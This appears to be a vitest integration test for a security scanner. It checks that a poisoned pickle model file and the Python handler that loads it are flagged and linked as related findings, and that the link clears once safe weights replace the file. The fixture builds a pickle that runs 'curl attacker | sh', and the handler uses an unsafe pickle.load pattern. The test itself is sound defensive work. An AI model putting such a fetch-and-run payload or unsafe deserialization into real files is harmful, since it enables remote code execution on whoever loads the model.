/**
 * A model file and the code that loads it, through the pipeline: both findings are stored with each other's
 * location, and a rescan after the file is replaced by safe weights drops the link with the file's finding.
 */
import { describe, expect, it } from "vitest";
import { registerRepository } from "../../lib/repos/service.ts";
import { enqueueScan } from "../../lib/scan/enqueue.ts";
import { runScan } from "../../lib/scan/pipeline.ts";
import { TestRepo } from "../support/git.ts";
import { callPickle, torchStateDict } from "../support/pickle-writer.ts";
import { usePipelineTest, useRealRules } from "../support/pipeline.ts";

const p = usePipelineTest("model-links");
const { t, work } = p;
useRealRules(p, ["ml-serving/model-artifacts.policy.yaml"]);

async function scan(repositoryId: string) {
  const { scan } = await enqueueScan(t.db, p.queues, repositoryId, "manual");
  expect(await runScan({ db: t.db, databaseUrl: t.url, rulebook: p.rulebook, allowLocalRepos: true }, scan.id, { number: 1, max: 3 })).toBe(
    "succeeded",
  );
}

const stored = async (repositoryId: string) =>
  (await t.db.finding.findMany({ where: { repositoryId }, orderBy: [{ path: "asc" }, { line: "asc" }] })).map((f) => ({
    at: `${f.path}:${f.line} ${f.checkId} ${f.status}`,
    related: (f.related as { path: string; line: number; ruleId: string }[] | null)?.map((r) => `${r.path}:${r.line} ${r.ruleId}`) ?? null,
  }));

describe("model files linked with the code that loads them", () => {
  const repo = new TestRepo(work.path("svc"));
  let repositoryId: string;

  it("stores both findings with each other's location", async () => {
    repo
      .write("requirements.txt", "torch>=2.0\n")
      .write("model-store/classifier.pkl", callPickle("os", "system", "curl attacker | sh"))
      .write(
        "serve/handler.py",
        'import os, pickle\n\ndef load():\n    with open(os.path.join("model-store", "classifier.pkl"), "rb") as f:\n        return pickle.load(f)\n',
      )
      .commit("classifier");
    repositoryId = (await registerRepository(t.db, { url: repo.dir, team: "ml-platform" }, true)).id;
    await scan(repositoryId);
    expect(await stored(repositoryId)).toEqual([
      {
        at: "model-store/classifier.pkl:1 ml-serving.artifact.code-execution open",
        related: ["serve/handler.py:5 ml-serving.artifact.unsafe-load"],
      },
      {
        at: "serve/handler.py:5 ml-serving.artifact.unsafe-load open",
        related: ["model-store/classifier.pkl:1 ml-serving.artifact.code-execution"],
      },
    ]);
  });

  it("drops the link when the file no longer carries code", async () => {
    repo.write("model-store/classifier.pkl", torchStateDict()).commit("safe weights");
    await scan(repositoryId);
    expect(await stored(repositoryId)).toEqual([
      {
        at: "model-store/classifier.pkl:1 ml-serving.artifact.code-execution fixed",
        related: ["serve/handler.py:5 ml-serving.artifact.unsafe-load"],
      },
      { at: "serve/handler.py:5 ml-serving.artifact.unsafe-load open", related: null },
    ]);
  });
});
